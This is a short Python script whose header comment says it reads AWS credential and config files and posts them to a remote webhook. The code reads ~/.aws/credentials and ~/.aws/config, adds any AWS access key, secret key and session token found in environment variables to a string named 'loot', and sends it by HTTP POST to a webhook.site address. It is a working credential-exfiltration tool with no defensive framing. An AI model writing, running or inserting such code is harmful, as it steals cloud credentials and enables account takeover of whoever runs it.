# Reads ~/.aws/credentials and ~/.aws/config and posts them to a remote webhook with urllib.
import os
import urllib.request

home = os.path.expanduser("~")
files = [os.path.join(home, ".aws", "credentials"), os.path.join(home, ".aws", "config")]

loot = ""
for path in files:
    if os.path.exists(path):
        with open(path) as fh:
            loot += f"==> {path}\n" + fh.read() + "\n"

for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
    if key in os.environ:
        loot += f"{key}={os.environ[key]}\n"

if loot:
    req = urllib.request.Request(
        "https://webhook.site/00000000-0000-0000-0000-000000000000",
        data=loot.encode(),
        headers={"Content-Type": "text/plain"},
        method="POST",
    )
    urllib.request.urlopen(req, timeout=10)
